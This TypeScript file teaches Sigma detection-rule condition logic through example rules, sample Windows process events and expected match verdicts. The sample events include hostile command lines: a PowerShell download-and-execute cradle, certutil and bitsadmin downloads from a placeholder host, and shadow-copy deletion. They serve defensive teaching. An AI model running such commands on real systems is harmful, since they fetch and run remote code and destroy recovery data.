/** Condition forms: and, or, not, parentheses, `1 of`, `all of`, `them`, and condition lists. */
import { exampleRule, PROCESS, type Example } from '../example.ts'

const OFFICE_CHILD = String.raw`
selection_parent:
    ParentImage|endswith:
        - '\winword.exe'
        - '\excel.exe'
selection_child:
    Image|endswith:
        - '\cmd.exe'
        - '\powershell.exe'`

const EVENTS = [
  {
    ParentImage: 'C:\\Office\\winword.exe',
    Image: 'C:\\Windows\\System32\\cmd.exe',
    User: 'CORP\\ann',
  },
  { ParentImage: 'C:\\Office\\excel.exe', Image: 'C:\\Windows\\notepad.exe', User: 'CORP\\bob' },
  {
    ParentImage: 'C:\\Windows\\explorer.exe',
    Image: 'C:\\Windows\\System32\\cmd.exe',
    User: 'CORP\\cid',
  },
]

export const CONDITIONS: Example[] = [
  {
    id: 'and-or',
    title: 'and binds tighter than or',
    topic: 'Conditions',
    explain:
      '"a or b and c" reads as "a or (b and c)". Here the admin filter only applies to the second half; add parentheses when you mean otherwise.',
    rule: exampleRule(
      20,
      'and binds tighter than or',
      PROCESS,
      String.raw`
selection_encoded:
    CommandLine|contains: ' -enc '
selection_download:
    CommandLine|contains: 'DownloadString'
filter_admin:
    User: 'CORP\admin'
condition: selection_encoded or selection_download and not filter_admin`,
    ),
    events: [
      { CommandLine: 'powershell -enc SQBFAFgA', User: 'CORP\\admin' },
      {
        CommandLine: "iex (New-Object Net.WebClient).DownloadString('http://x')",
        User: 'CORP\\admin',
      },
      {
        CommandLine: "iex (New-Object Net.WebClient).DownloadString('http://x')",
        User: 'CORP\\bob',
      },
    ],
    verdicts: [true, false, true],
  },
  {
    id: 'parentheses',
    title: 'Parentheses group before not',
    topic: 'Conditions',
    explain:
      'With parentheses the filter applies to both selections. Compare with "and binds tighter than or": the first event no longer matches.',
    rule: exampleRule(
      21,
      'Parentheses group before not',
      PROCESS,
      String.raw`
selection_encoded:
    CommandLine|contains: ' -enc '
selection_download:
    CommandLine|contains: 'DownloadString'
filter_admin:
    User: 'CORP\admin'
condition: (selection_encoded or selection_download) and not filter_admin`,
    ),
    events: [
      { CommandLine: 'powershell -enc SQBFAFgA', User: 'CORP\\admin' },
      { CommandLine: 'powershell -enc SQBFAFgA', User: 'CORP\\bob' },
    ],
    verdicts: [false, true],
  },
  {
    id: 'one-of',
    title: '1 of selection_*',
    topic: 'Conditions',
    explain:
      '"1 of selection_*" is true when any identifier whose name starts with selection_ is true: an OR over a name pattern.',
    rule: exampleRule(
      22,
      'One of a pattern',
      PROCESS,
      `${OFFICE_CHILD}\ncondition: 1 of selection_*`,
    ),
    events: [
      EVENTS[1] ?? {},
      EVENTS[2] ?? {},
      { ParentImage: 'C:\\Windows\\explorer.exe', Image: 'C:\\Windows\\notepad.exe' },
    ],
    verdicts: [true, true, false],
  },
  {
    id: 'all-of',
    title: 'all of selection_*',
    topic: 'Conditions',
    explain:
      '"all of selection_*" needs every matching identifier to be true: an Office parent AND a shell child. Only the first event has both.',
    rule: exampleRule(
      23,
      'All of a pattern',
      PROCESS,
      `${OFFICE_CHILD}\ncondition: all of selection_*`,
    ),
    events: EVENTS,
    verdicts: [true, false, false],
  },
  {
    id: 'not-one-of-filters',
    title: 'not 1 of filter_*',
    topic: 'Conditions',
    explain:
      '"not 1 of filter_*" excludes the event when ANY filter matches — it is "none of the filters". It does not mean "not all of them".',
    rule: exampleRule(
      24,
      'Not one of the filters',
      PROCESS,
      String.raw`
selection:
    Image|endswith: '\schtasks.exe'
filter_main_system:
    User|contains: 'SYSTEM'
filter_optional_updater:
    CommandLine|contains: 'GoogleUpdate'
condition: selection and not 1 of filter_*`,
    ),
    events: [
      {
        Image: 'C:\\Windows\\System32\\schtasks.exe',
        User: 'CORP\\ann',
        CommandLine: 'schtasks /create /tn evil',
      },
      {
        Image: 'C:\\Windows\\System32\\schtasks.exe',
        User: 'NT AUTHORITY\\SYSTEM',
        CommandLine: 'schtasks /run',
      },
      {
        Image: 'C:\\Windows\\System32\\schtasks.exe',
        User: 'CORP\\ann',
        CommandLine: 'schtasks /create /tn GoogleUpdateTask',
      },
    ],
    verdicts: [true, false, false],
  },
  {
    id: 'them',
    title: '1 of them, and the underscore',
    topic: 'Conditions',
    explain:
      '"them" means every identifier in the rule, except those whose names start with an underscore. _helper is left out, so an event matching only _helper does not fire.',
    rule: exampleRule(
      25,
      'One of them',
      PROCESS,
      String.raw`
selection_vssadmin:
    CommandLine|contains: 'vssadmin delete shadows'
selection_wmic:
    CommandLine|contains: 'shadowcopy delete'
_helper:
    CommandLine|contains: 'shadows'
condition: 1 of them`,
    ),
    events: [
      { CommandLine: 'vssadmin delete shadows /all /quiet' },
      { CommandLine: 'wmic shadowcopy delete' },
      { CommandLine: 'vssadmin list shadows' },
    ],
    verdicts: [true, true, false],
  },
  {
    id: 'condition-list',
    title: 'A list of conditions is OR',
    topic: 'Conditions',
    explain:
      'condition can be a list: the rule fires when any of its conditions is true. Each line is evaluated on its own.',
    rule: exampleRule(
      26,
      'A list of conditions',
      PROCESS,
      String.raw`
selection_certutil:
    Image|endswith: '\certutil.exe'
    CommandLine|contains: '-urlcache'
selection_bits:
    Image|endswith: '\bitsadmin.exe'
    CommandLine|contains: '/transfer'
condition:
    - selection_certutil
    - selection_bits`,
    ),
    events: [
      {
        Image: 'C:\\Windows\\System32\\certutil.exe',
        CommandLine: 'certutil -urlcache -f http://x a.exe',
      },
      {
        Image: 'C:\\Windows\\System32\\bitsadmin.exe',
        CommandLine: 'bitsadmin /transfer j http://x C:\\a.exe',
      },
      { Image: 'C:\\Windows\\System32\\certutil.exe', CommandLine: 'certutil -hashfile a.exe' },
    ],
    verdicts: [true, true, false],
  },
]
